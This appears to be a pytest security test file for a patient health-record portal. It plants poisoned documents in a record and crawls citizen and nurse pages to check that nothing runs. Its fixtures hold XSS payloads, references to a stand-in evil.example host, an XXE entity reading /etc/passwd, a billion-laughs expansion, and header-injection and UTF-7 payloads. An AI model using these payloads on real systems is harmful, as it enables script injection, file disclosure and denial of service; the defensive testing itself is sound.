"""A record whose every word is script: on no page of the citizen's or the desk's is it anything but words."""

import re

import pytest
from lxml import html
from tests.contracts.attacks.conftest import POISONED
from tests.contracts.attacks.town import MARKER, deliver_documents

from innsyn.kernel.clock import system_clock
from innsyn.web.need import Need

ENTITY = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
BILLION = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{"&" + chr(97 + n) + ";" * 1}{("&" + chr(97 + n) + ";") * 9}">' for n in range(9)
) + "]>"  # fmt: skip
# ruff: noqa: E501 -- attacks are quoted as they are
SCRIPT = b"<!doctype html><html><head><meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example></head>" \
    b"<body onload=alert(1)><script>alert(1)</script><iframe src=//evil.example></iframe><form action=//evil.example><input name=x></form>" \
    b"<a href=javascript:alert(1)>x</a><svg><script>alert(1)</script></svg><object data=x></object><link rel=stylesheet href=//evil.example>" \
    b"<img src=//evil.example/x onerror=alert(1)><p>Helt vanlig</p></body></html>"  # fmt: skip
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
CDA = (
    '<ClinicalDocument xmlns="urn:hl7-org:v3"><title>x</title><component><structuredBody><component><section><title>&lt;script&gt;</title>'
    "<text><script>alert(1)</script><paragraph onclick='alert(1)'>Helt vanlig<linkHtml href='javascript:alert(1)'>x</linkHtml>"
    "<renderMultiMedia referencedObject='x'/></paragraph>{0}</text></section></component></structuredBody></component></ClinicalDocument>"
)
CONTENTS = {
    "attack-html": ("text/html", SCRIPT),
    "attack-xhtml": ("application/xhtml+xml", SCRIPT),
    "attack-svg": ("image/svg+xml", SVG),
    "attack-svg-as-png": ("image/png", SVG),
    "attack-html-as-text": ("text/plain", SCRIPT),
    "attack-html-as-pdf": ("application/pdf", SCRIPT),
    "attack-pdf-with-html": ("text/html", b"%PDF-1.7\n" + SCRIPT),
    "attack-type": ("text/html;\r\nX-Injected: 1", SCRIPT),
    "attack-cda": ("application/hl7-v3+xml", CDA.format("").encode()),
    "attack-cda-entity": ("application/hl7-v3+xml", (ENTITY + CDA.format("&e;")).encode()),
    "attack-cda-billion": ("application/hl7-v3+xml", (BILLION + CDA.format("&j;")).encode()),
    "attack-xml-entity": ("application/xml", (ENTITY + "<x>&e;</x>").encode()),
    "attack-xml-remote": ("text/xml", b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'),
    "attack-xslt": ("text/xml", b'<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><x/>'),
    "attack-fhir": ("application/fhir+json", b'{"resourceType":"Composition","text":{"div":"<script>alert(1)</script>"}}'),
    "attack-deep-json": ("application/fhir+json", b"[" * 100_000),
    "attack-deep-xml": ("text/xml", b"<a>" * 50_000),
    "attack-utf16": ("text/html; charset=utf-7", b"+ADw-script+AD4-alert(1)"),
    "attack-empty": ("", b""),
}


ROOTS = {
    "access-log", "appointments", "calendar", "contacts", "diagnoses", "documents", "messages", "my-health", "notice-log", "referrals", "representation", "results", "settings", "shields",
}  # fmt: skip
"""First words of the addresses of citizens' pages."""


@pytest.fixture(scope="module")
async def documents(town):
    await deliver_documents(town.gate, POISONED, CONTENTS, system_clock())
    return tuple(CONTENTS)


def assert_harmless(answer):
    """Nothing of the poison became markup, and the policy stands."""
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe-eval" not in policy
    assert "script-src 'self'" in policy or "script-src" not in policy
    assert answer.headers["x-content-type-options"] == "nosniff"
    if not answer.headers.get("content-type", "").startswith("text/html"):
        return
    tree = html.document_fromstring(answer.text)
    assert not tree.xpath("//script[not(@src)]"), (
        answer.url.path,
        [html.tostring(each.getparent())[:600] for each in tree.xpath("//script[not(@src)]")],
    )
    assert all(source.startswith("/static/") for source in tree.xpath("//script/@src"))
    assert not tree.xpath("//@*[starts-with(name(), 'on')]")
    assert not tree.xpath("//img[@src='x'] | //base | //object | //embed | //meta[@http-equiv]")
    assert not [
        link for link in tree.xpath("//@href | //@src | //@action") if re.match(r"\s*(javascript|data:text|//)", link, re.IGNORECASE)
    ]
    assert MARKER not in answer.text.replace("&lt;", "&")
    assert ">49" not in answer.text
    assert "root:x:0" not in answer.text


async def crawl(browser, start, within):
    """Fetch every page that can be reached by links. Returns the answers by address."""
    seen, waiting = {}, [start]
    while waiting and len(seen) < 140:
        address = waiting.pop()
        if address in seen:
            continue
        seen[address] = answer = await browser.client.get(address)
        if answer.headers.get("content-type", "").startswith("text/html") and answer.status_code == 200:
            links = html.document_fromstring(answer.text).xpath("//a/@href | //iframe/@src | //object/@data")
            fresh = [link for link in links if link.startswith(within) and link.split("?")[0] not in {each.split("?")[0] for each in seen}]
            waiting.extend(link for link in fresh if "logout" not in link and "/language" not in link)
    return seen


async def test_no_page_of_the_citizens_runs_what_stands_in_the_record(town, documents):
    pages = await crawl(
        await town.browser(POISONED),
        "/my-health",
        tuple(f"/{root}" for root in ROOTS),
    )
    assert len(pages) > 30
    assert sum("alert(1)" in answer.text for answer in pages.values()) > 20, "the poison is on the pages"
    for address, answer in pages.items():
        assert answer.status_code == 200, address
        assert_harmless(answer)


async def test_no_page_of_the_desks_runs_what_stands_in_the_record(town, documents):
    nurse = await town.browser("berg")
    visit = await nurse.open_record(town.number(POISONED))
    pages = await crawl(nurse, visit, (visit,))
    assert len(pages) > 20
    for address, answer in pages.items():
        assert answer.status_code == 200, address
        assert_harmless(answer)


async def test_the_poisoned_patient_can_be_found_at_the_desk(town):
    nurse = await town.browser("berg")
    answer = await nurse.post("/desk/find", {"number": town.number(POISONED)}, page="/desk")
    assert answer.status_code == 200
    assert "alert(1)" in answer.text
    assert_harmless(answer)


@pytest.mark.parametrize("document", CONTENTS)
async def test_a_document_that_attacks_is_shown_or_kept_but_never_run(town, documents, document):
    reader = await town.browser(POISONED)
    page = await reader.client.get(f"/documents/{document}")
    assert page.status_code == 200
    assert_harmless(page)
    for query in ("", "?save=1", "?form=1"):
        answer = await reader.client.get(f"/documents/{document}/content{query}")
        assert answer.status_code in (200, 404)
        if answer.status_code == 404:
            continue
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "x-injected" not in answer.headers
        policy, kind = answer.headers["content-security-policy"], answer.headers["content-type"].lower()
        is_saved = answer.headers.get("content-disposition", "").startswith("attachment")
        assert policy.startswith("sandbox;") or kind == "application/pdf"
        assert is_saved or kind.split(";")[0] in ("application/pdf", "image/png", "image/jpeg"), kind
        assert not re.search("html|xml|script|svg", kind), "a type a browser could run"


def test_the_walk_knows_every_kind_of_page(town):
    from tests.contracts.attacks.test_other_peoples_ids import ROUTES

    roots = {route.path.split("/")[1] for route in ROUTES if route.need is Need.CITIZEN}
    assert roots == ROOTS, "add the new slice to the crawl's addresses"
